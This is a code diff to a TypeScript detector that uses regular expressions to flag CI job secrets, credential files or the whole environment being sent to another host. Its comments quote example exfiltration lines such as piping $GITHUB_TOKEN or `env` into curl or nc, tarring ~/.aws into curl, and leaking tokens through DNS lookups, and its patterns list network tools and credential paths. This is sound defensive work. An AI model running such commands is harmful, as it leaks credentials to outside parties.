@@ -18,6 +18,8 @@ export const SECRET_NAME = String.raw`\w*(?:token|secret|passw(?:or)?d|passphras
  * token) and a process's environment (`/proc/self/environ`; review 65): also the injection detector's.
  */
 export const CREDENTIAL_FILE = String.raw`(?:(?:~|\$home|\/home\/\w+|\/root)?\/?\.(?:aws\/credentials|ssh\/(?:id_\w+|[\w.-]+\.pem)|npmrc|pypirc|netrc|git-credentials|git\/config|docker\/config\.json|kube\/config|config\/gh\/hosts\.ya?ml)|\/proc\/\w+\/environ)\b`;
+/** A program that sends what it reads to a host. */
+const SENDS_STDIN = String.raw`(?:curl|wget|n(?:et)?c(?:at)?|socat)\b`;
 /** The job's own credentials, which no request carries in its query or body to a service the tests own. */
 const JOB_CREDENTIAL = String.raw`(?:g(?:ithub|h)_token|actions_\w*|n(?:pm|ode_auth)_token|aws_se\w*|pypi_\w*|twine_password)`;
 /**
@@ -42,24 +44,23 @@ const SEND_WORD = String.raw`(?<!\b(?:child|process|worker|subprocess|proc|port|
 const SEND = String.raw`(?:\b(?:requests|httpx|axios|session|client)\.\w+|\bhttps?\.(?:get|request)|\b(?:fetch|urlopen|post|put|request)|${SEND_WORD})\s*\(`;
 /**
  * The job's credential added to a URL the test is given (`urlopen(url + os.environ['GITHUB_TOKEN'])`, in a template:
- * `` fetch(`${base}?t=${process.env.GITHUB_TOKEN}`) ``), set on a URL's query (`u.searchParams.set('t', …)`), or
- * printed into a pipe to a program that sends (`echo "$GITHUB_TOKEN" | curl -d @- …`, `printenv NPM_TOKEN | nc h 443`;
+ * `` fetch(`${base}?t=${process.env.GITHUB_TOKEN}`) ``), or printed into a pipe to a program that sends (`echo "$GITHUB_TOKEN" | curl -d @- …`, `printenv NPM_TOKEN | nc h 443`;
  * session 66). (In FORMS, session 66 also reads a credential file or the auth header in a substitution on curl's or
  * wget's line, `curl -d "$(cat ~/.git-credentials)"`, and a credential directory piped, `tar cz ~/.aws | curl -T - …`.) A token added after a string (`'token ' + os.environ[…]`, a header's value) is not read here.
  */
-const JOB_CREDENTIAL_SENT = String.raw`${SEND}\s*(?:[\w$.]+\s*\+\s*|\x60[^\x60\n]{0,200}?)${variableRead(JOB_CREDENTIAL)}|\bsearchParams\s*\.\s*(?:set|append)\s*\([^\n)]{0,100}?${variableRead(JOB_CREDENTIAL)}|\b(?:echo|printf|printenv)\b[^\n|;&]{0,100}?\b${JOB_CREDENTIAL}\b[^\n;&]{0,100}?\|\s*(?:curl|wget|n(?:et)?c(?:at)?|socat)\b`;
+const JOB_CREDENTIAL_SENT = String.raw`${SEND}\s*(?:[\w$.]+\s*\+\s*|\x60[^\x60\n]{0,200}?)${variableRead(JOB_CREDENTIAL)}|\b(?:echo|printf|printenv)\b[^\n|;&]{0,100}?\b${JOB_CREDENTIAL}\b[^\n;&]{0,100}?\|\s*${SENDS_STDIN}`;
 /**
  * A secret-named variable in a DNS lookup (`dns.lookup(hex(process.env.NPM_TOKEN) + '.h')`, `socket.gethostbyname`,
  * `getaddrinfo`, `dns.promises.resolveTxt`, `dig`/`nslookup`/`host "$TOKEN.h"`): the name asked for reaches the resolvers of the domain it ends in
  * (session 66). A host read from the environment (`dns.lookup(process.env.DB_HOST)`) is no secret.
  */
-const SECRET_LOOKED_UP = String.raw`(?:\b(?:dns|resolver)(?:\s*\.\s*\w+){1,2}|\blookup|\bgethostbyname(?:_ex)?|\bgetaddrinfo)\s*\([^\n]{0,150}?${variableRead(SECRET_NAME)}|\b(?:dig|nslookup|host)\s[^\n|;&]{0,150}?${variableRead(SECRET_NAME)}`;
+const SECRET_LOOKED_UP = String.raw`(?:\b(?:(?:dns|resolver)(?:\.\w+){1,2}|lookup|gethostbyname\w*|getaddrinfo)\s*\(|\b(?:dig|nslookup|host)\s)[^\n|;&]{0,150}?${variableRead(SECRET_NAME)}`;
 const FORMS = new RegExp(
   // A credential file, or the checkout's auth header, read and sent on one line; a secret in a literal URL to another
   // host, inside it (`?t=${…}`, `$NPM_TOKEN`, `{os.environ[…]}`) or added to it; the job's credential in a request's
-  // query or body to any host, or on a socket (the reach stops at a closing bracket: a header after the body is not it;
-  // review 65), or in a shell request's body (`curl -d "$GITHUB_TOKEN"`, `wget --post-data`; review 65).
-  String.raw`(?:(?:@|-T\s*|--upload-file\s+)[^\s"'\x60]{0,40}|${SEND}[^\n]{0,200}?)${CREDENTIAL_FILE}|(?:${CREDENTIAL_FILE}|\bextraheader\b|(?:~|\$\{?HOME\}?)\/\.(?:aws|ssh|docker|kube|gnupg)\b)[^\n|]{0,200}\|\s*(?:curl|wget|n(?:et)?c(?:at)?|socat)\b|\b(?:curl|wget)\b[^\n]{0,200}?\$\([^)\n]{0,100}?(?:${CREDENTIAL_FILE}|\bextraheader\b)|\b(?:http|ws)s?:\/\/${ELSEWHERE}[^\s"'\x60{}]{0,300}(?:\{\s*|["'\x60]\s*\+\s*|(?=\$))${variableRead(SECRET_NAME)}|(?:${SEND}[^\n]{0,200}?\b(?:params|data|json|body|files|content|qs?|query|path)\s*[=:]|${SEND_WORD}\s*\()[^\n)}]{0,150}?${variableRead(JOB_CREDENTIAL)}| --?(?:d|F|(?:post-)?data\S*)[ =]?\S{0,60}?${variableRead(JOB_CREDENTIAL)}|${JOB_CREDENTIAL_SENT}|${SECRET_LOOKED_UP}`,
+  // query or body to any host, set on a URL's query (`u.searchParams.set('t', …)`; session 66), or on a socket (the reach
+  // stops at a closing bracket: a header after the body is not it; review 65), or in a shell request's body (`curl -d "$GITHUB_TOKEN"`, `wget --post-data`; review 65).
+  String.raw`(?:(?:@|-T\s*|--upload-file\s+)[^\s"'\x60]{0,40}|${SEND}[^\n]{0,200}?)${CREDENTIAL_FILE}|(?:${CREDENTIAL_FILE}|\bextraheader\b|(?:~|\$\{?HOME\}?)\/\.(?:aws|ssh|docker|kube|gnupg)\b)[^\n|]{0,200}\|\s*${SENDS_STDIN}|\b(?:curl|wget)\b[^\n]{0,200}?\$\([^)\n]{0,100}?(?:${CREDENTIAL_FILE}|\bextraheader\b)|\b(?:http|ws)s?:\/\/${ELSEWHERE}[^\s"'\x60{}]{0,300}(?:\{\s*|["'\x60]\s*\+\s*|(?=\$))${variableRead(SECRET_NAME)}|(?:${SEND}[^\n]{0,200}?\b(?:params|data|json|body|files|content|qs?|query|path)\s*[=:]|${SEND_WORD}\s*\(|\bsearchParams\.(?:set|append)\()[^\n)}]{0,150}?${variableRead(JOB_CREDENTIAL)}| --?(?:d|F|(?:post-)?data\S*)[ =]?\S{0,60}?${variableRead(JOB_CREDENTIAL)}|${JOB_CREDENTIAL_SENT}|${SECRET_LOOKED_UP}`,
   'i',
 );
 
@@ -67,13 +68,13 @@ const FORMS = new RegExp(
  * The whole environment as an expression (`process.env`, `os.environ`, a copy of it), not a variable read from it, or
  * the output of `env`/`printenv` (`subprocess.check_output(['env'])`; session 66).
  */
-const WHOLE_ENVIRONMENT = String.raw`(?:(?:process\.env|os\.environ)\b(?!\s*\[|\s*\.\s*(?!copy\b|items\b)\w)|\b(?:check_output|getoutput|popen|execSync|run)\s*\(\s*\[?\s*["'\x60](?:env|printenv|set)["'\x60])`;
+const WHOLE_ENVIRONMENT = String.raw`(?:(?:process\.env|os\.environ)\b(?!\s*\[|\s*\.\s*(?!copy\b|items\b)\w)|\b(?:check_output|getoutput|popen|execSync|run)\(\[?["'\x60](?:print)?env["'\x60])`;
 /**
  * The whole environment given to a call that sends it (`fetch(u, { body: JSON.stringify(process.env) })`,
  * `requests.post(u, json=dict(os.environ))`), or piped to one (`env | curl -d @- …`; attack 64): `dangerous-code.ts`'s
  * `secrets-dump` reads it in any text, and {@link secretsSent} through a variable.
  */
-export const ENVIRONMENT_SENT = String.raw`${SEND}[^;\n]{0,200}?${WHOLE_ENVIRONMENT}|env\s*\|\s*(?:curl|wget|nc)\b`;
+export const ENVIRONMENT_SENT = String.raw`${SEND}[^;\n]{0,200}?${WHOLE_ENVIRONMENT}|env\s*\|\s*${SENDS_STDIN}`;
 const ENVIRONMENT_SENT_RE = new RegExp(ENVIRONMENT_SENT, 'i');
 /**
  * A name given the whole environment or a credential file's text on one line, group 1 the name (a `$` before it, PHP's
@@ -100,24 +101,23 @@ function carriedAndSent(text: string): boolean {
  * URL (`request.post('https://…')`), and supertest given a URL's string sends to it: a name the text gives anything but
  * a call's result (`const app = express()`, `createApp()`) is no app (`const app = process.env.TARGET`).
  */
-const TEST_CLIENT_SEND = /\b((?:request|supertest)(?:\s*\.\s*agent)?\(\s*([A-Za-z_]\w*)(?:\s*\.\s*\w+(?:\(\s*\))?)?\s*\)[^\n;]{0,150}?\.\s*)send\b/g;
-/** At most this many app names are checked for a string (each a pass over the text); past them, no `send` is renamed. */
-const MAX_APP_NAMES = 8;
+const TEST_CLIENT_SEND = /\b((?:request|supertest)\(\s*(\w+)(?:\.\w+(?:\(\))?)?\s*\)[^\n;]{0,150}?\.\s*)send\b/g;
+/** A name given anything but a call's result (`const app = process.env.TARGET`, a URL's string), group 1. */
+const GIVEN_A_VALUE = /(?<![\w$.])([A-Za-z_]\w*)\s*=(?![=>])(?!\s*[\w$.\s]+\()/g;
 
 /** `text` with a test client's `send` to an app ({@link TEST_CLIENT_SEND}) spelled as no sending call. */
 function appSendsRenamed(text: string): string {
-  const names = new Set([...text.matchAll(TEST_CLIENT_SEND)].map((match) => match[2]!));
-  if (names.size === 0 || names.size > MAX_APP_NAMES) return text;
-  const apps = new Set([...names].filter((name) => !new RegExp(String.raw`(?<![\w$.])${name}\s*=(?![=>])(?!\s*(?:await\s+)?(?:new\s+)?[\w$.]+\s*\()`).test(text)));
-  return text.replace(TEST_CLIENT_SEND, (send, chain: string, name: string) => (apps.has(name) ? `${chain}sent_to_app` : send));
+  const values = new Set([...text.matchAll(GIVEN_A_VALUE)].map((match) => match[1]));
+  return text.replace(TEST_CLIENT_SEND, (send, chain: string, name: string) => (values.has(name) ? send : `${chain}sent_to_app`));
 }
 
 /** Whether `text` sends a CI job's secrets to another host in one of this module's forms. */
 export function secretsSent(written: string): boolean {
   // A call spread over lines (black's style) read as one line: each line ending in an opening bracket or a comma is
   // joined to the next (session 66: `requests.post(\n    u,\n    json=dict(os.environ),\n)`).
-  // A path built in pieces read as one (`Path.home() / '.aws' / 'credentials'`, `path.join(home, '.aws', 'credentials')`).
-  const joined = written.replace(/([([{,])[ \t]*\r?\n\s*/g, '$1 ').replace(/(["'])\s*\/\s*["']|(\.[\w-]+)["']\s*,\s*["']/g, (_, quote: string | undefined, dotted: string | undefined) => (quote === undefined ? `${dotted}/` : '/'));
+  // A path built in pieces read as one (`Path.home() / '.aws' / 'credentials'`, `path.join(home, '.aws', 'credentials')`):
+  // any two strings one `/` or `,` apart are read joined by `/`.
+  const joined = written.replace(/([([{,])\s*\n\s*/g, '$1 ').replace(/["']\s*[/,]\s*["']/g, '/');
   const text = appSendsRenamed(joined);
   return FORMS.test(text) || carriedAndSent(text);
 }
